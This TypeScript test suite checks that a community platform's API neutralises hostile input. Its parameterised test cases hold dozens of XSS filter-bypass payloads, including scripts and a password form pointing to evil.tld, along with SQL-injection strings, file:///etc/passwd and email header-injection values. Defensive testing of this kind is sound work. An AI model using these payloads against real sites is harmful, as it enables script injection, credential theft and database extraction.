import { problemOf, type Caller } from '../../support/caller.js';
import { people, Platform } from '../../support/platform.js';
import { signedIn } from '../../support/sessions.js';

describe('what people write', () => {
  let platform: Platform;
  let owner: Caller & { token: string };
  let communityId: string;
  beforeAll(async () => {
    platform = await Platform.start({ workers: 0 });
    owner = await signedIn(platform, people.owner);
    communityId = (await platform.communityOf(owner)).id;
  });
  afterAll(() => platform.stop());

  const write = (content: string, title = 'Un titre') =>
    owner.post<{ id: string; content: string; title: string }>('/client/posts', { communityId, title, content });

  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.tld/x.js></sCrIpT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=alert(1)//',
    '<svg onload=alert(1)>',
    '<svg><script href="data:,alert(1)"/>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.tld">x</a>',
    '<a href="\\\\evil.tld">x</a>',
    '<iframe src="https://evil.tld"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src=x>',
    '<base href="https://evil.tld/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.tld">',
    '<link rel=stylesheet href=//evil.tld>',
    '<style>@import "//evil.tld"</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    '<form action="//evil.tld"><input name=password><button>x</button></form>',
    '<template><script>alert(1)</script></template>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<isindex action=javascript:alert(1) type=image>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<p id="root" class="x" name="getElementById">x</p>',
    '"><img src=x onerror=alert(1)>',
    "';alert(1)//",
    '<xss contenteditable autofocus onfocus=alert(1)>x</xss>',
    `${'<div>'.repeat(3_000)}x`,
    `${'<b>'.repeat(8_000)}x`,
    '<p>{{constructor.constructor("alert(1)")()}}</p>',
  ])('(d33, ASVS 1.3.1) keeps nothing of %.60s that a browser would run', async (hostile) => {
    const { status, body } = await write(`<p>Bonjour</p>${hostile}`);
    expect([201, 422]).toContain(status);
    if (status !== 201) return;
    const tags = [...body.content.matchAll(/<\/?([a-z0-9]+)/gi)].map(([, name = '']) => name.toLowerCase());
    expect(
      tags.filter(
        (tag) => !['p', 'ul', 'ol', 'li', 'strong', 'em', 'b', 'i', 'h3', 'blockquote', 'a', 'br'].includes(tag),
      ),
    ).toEqual([]);
    for (const [tag] of body.content.matchAll(/<[^>]+>/g))
      expect(tag).toMatch(/^<\/?[a-z0-9]+( (href="(https?:|mailto:)[^"]*"|rel="[^"]*"|target="_blank"))* ?\/?>$/);
  });

  it('(d33) keeps a name and a title as text, and gives them back as text', async () => {
    const title = '<img src=x onerror=alert(1)> & "guillemets"';
    expect((await write('<p>x</p>', title)).body.title).toBe(title);
    const response = await fetch(`${platform.url}/api/client/posts`, {
      headers: { Authorization: `Bearer ${owner.token}`, Accept: 'text/html' },
    });
    expect(response.headers.get('content-type')).toContain('application/json');
  });

  it.each([
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    '//evil.tld',
    'ftp://x.tld',
    ' javascript:x',
    'https:evil',
    'http://',
  ])('(d34, ASVS 1.2.2) refuses %s as the address of a community, and as a link to read', async (url) => {
    const community = await owner.post('/client/communities', { name: 'Essai', type: 'other', website: url });
    // `https:evil` is `https://evil` to every browser: a harmless address, kept as such.
    if (community.status === 201) expect((community.body as { website: string }).website).toMatch(/^https?:/);
    else expect(problemOf(community).status).toBe(422);
    if (url !== 'https:evil' && url !== '//evil.tld')
      expect(problemOf(await owner.post('/client/documents', { communityId, url })).status).toBe(422);
  });

  it.each([
    "x' or '1'='1",
    "'; drop table account; --",
    '$1',
    '%',
    '_',
    '\\',
    "') union select password_hash from account --",
    '{1,2}',
    '?',
  ])('(d35, ASVS 1.2.4) takes %j as a text, never as SQL', async (text) => {
    const { status, body } = await write(`<p>${text}</p>`, text);
    expect([status, body.title]).toEqual([201, text]);
    expect((await owner.get(`/client/communities/${communityId}/members?q=${encodeURIComponent(text)}`)).status).toBe(
      200,
    );
    expect((await owner.post('/client/communities/join', { code: text })).status).toBeGreaterThanOrEqual(404);
  });

  it('(d28, ASVS 2.3.1) skips no step: what is not there yet, or no longer, cannot be acted on', async () => {
    const { body } = await write('<p>x</p>');
    const step = (name: string) => owner.post(`/client/posts/${body.id}/${name}`);
    await owner.delete(`/client/posts/${body.id}`);
    for (const name of ['publish', 'pin', 'hide', 'unpublish'])
      expect([name, (await step(name)).status]).toEqual([name, 404]);
  });

  it('(d55, ASVS 1.3.11) lets no line break into a name, an address or a subject', async () => {
    for (const email of ['a@b.tld\r\nBcc: x@evil.tld', 'a@b.tld\nSubject: x', '"a\r\n"@b.tld', 'a@b.tld,x@evil.tld'])
      expect((await owner.patch('/client/me', { email })).status).toBe(422);
  });
});
